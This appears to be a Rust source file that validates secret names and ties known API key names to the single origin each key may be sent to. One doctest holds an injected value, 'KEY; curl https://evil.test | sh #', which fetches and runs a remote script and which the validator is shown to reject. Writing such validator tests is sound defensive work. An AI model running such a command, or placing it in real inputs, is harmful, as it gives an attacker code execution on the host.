//! Secrets in a document: their names, and where a key of a name may go.

use serde::Serialize;

use super::Provider;

/// Where keys of these names go, besides those of providers whose address a document need not give.
const ORIGINS: [(&str, &str); 4] = [
    ("CLOUDFLARE_API_TOKEN", "https://api.cloudflare.com"),
    ("GOOGLE_API_KEY", "https://generativelanguage.googleapis.com"),
    ("CEREBRAS_API_KEY", "https://api.cerebras.ai"),
    ("HF_TOKEN", "https://router.huggingface.co"),
];

/// The name of a secret whose value the host holds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Secret {
    /// The name under which the host was given the value.
    pub secret: String,
}

impl Secret {
    /// Whether a secret may be called that. Names stand in commands, in files of settings and in programs, so that they
    /// hold nothing that means something there.
    ///
    /// ```
    /// use stepweave_core::document::Secret;
    /// assert!(Secret::is_name("OPENAI_API_KEY"));
    /// assert!(!Secret::is_name("KEY; curl https://evil.test | sh #"));
    /// ```
    pub fn is_name(text: &str) -> bool {
        let letter = |letter: char| letter.is_ascii_alphabetic() || letter == '_';
        text.starts_with(letter) && text.chars().all(|next| letter(next) || next.is_ascii_digit())
    }

    /// The only origin to which the key of this name goes; nothing for names that anybody may use.
    ///
    /// ```
    /// use stepweave_core::document::Secret;
    /// assert_eq!(Secret::origin_of("OPENAI_API_KEY"), Some("https://api.openai.com"));
    /// assert_eq!(Secret::origin_of("MY_KEY"), None);
    /// ```
    pub fn origin_of(name: &str) -> Option<&'static str> {
        let providers = Provider::WORDS.iter().filter_map(|word| Provider::from_word(word));
        let own = providers.filter(|provider| provider.secret() == name).find_map(|provider| {
            let address = provider.base_url();
            let end = address.match_indices('/').nth(2).map_or(address.len(), |(path, _)| path);
            address.get(..end).filter(|origin| !origin.is_empty())
        });
        own.or_else(|| ORIGINS.iter().find(|(known, _)| *known == name).map(|(_, origin)| *origin))
    }
}
